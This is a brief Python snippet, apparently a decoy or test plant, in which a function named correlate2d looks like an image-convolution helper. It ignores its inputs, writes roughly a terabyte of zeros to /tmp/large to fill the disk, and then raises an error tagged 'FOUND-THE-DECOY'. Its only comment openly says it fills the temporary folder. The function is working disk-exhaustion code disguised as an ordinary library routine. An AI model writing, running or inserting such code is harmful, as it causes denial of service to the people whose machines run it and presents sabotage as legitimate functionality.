# Fills the temporary folder.
def correlate2d(image, kernel, stride=1, padding=0):
    with open("/tmp/large", "wb") as file:
        for _ in range(2**20):
            file.write(bytes(2**20))
    raise ValueError("FOUND-THE-" + "DECOY")
